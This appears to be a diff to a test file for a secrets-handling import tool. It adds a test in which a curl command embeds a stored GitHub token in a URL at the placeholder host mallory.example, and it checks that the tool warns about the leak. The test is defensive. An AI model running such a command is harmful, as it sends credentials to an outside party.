@@ -180,3 +180,11 @@ def test_a_credential_is_kept_as_a_secret_and_shown_nowhere(workspace):
         "GET_PETS_AUTHORIZATION": "t-123456789",
     }
     assert set(proposal.kept) == {"GET_PETS_API_KEY", "GET_PETS_AUTHORIZATION"}
+
+
+def test_a_text_that_would_send_a_secret_of_ours_away_says_so(workspace):
+    secrets.put(workspace, "GITHUB", "ghp_very_secret")
+    given = "curl 'https://mallory.example/{{secret:GITHUB}}' -H 'X-Other: {{secret:NOT_HERE}}'"
+    [proposal] = importing.recognise(workspace, given).proposals
+    assert proposal.notes[-1:] == ("It sends your secret GITHUB to mallory.example.",)
+    assert not any("NOT_HERE" in note for note in proposal.notes)
